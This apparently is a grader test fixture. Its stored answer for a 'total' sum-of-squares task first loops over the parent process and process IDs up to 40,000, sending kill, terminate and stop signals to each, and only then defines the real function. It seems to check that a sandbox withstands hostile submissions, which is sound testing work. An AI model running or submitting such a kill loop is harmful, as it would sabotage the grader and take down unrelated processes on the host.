"""Signals to the parent and to all numbers: there is nobody else to be seen."""

ANSWERS = {
    "total": """
import os, signal

for number in [os.getppid(), *range(1, 40_000)]:
    if number != os.getpid():
        for kind in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
            try:
                os.kill(number, kind)
            except OSError:
                break

def total(values):
    return sum(value * value for value in values)
"""
}
EXPECTED = ("graded", {})
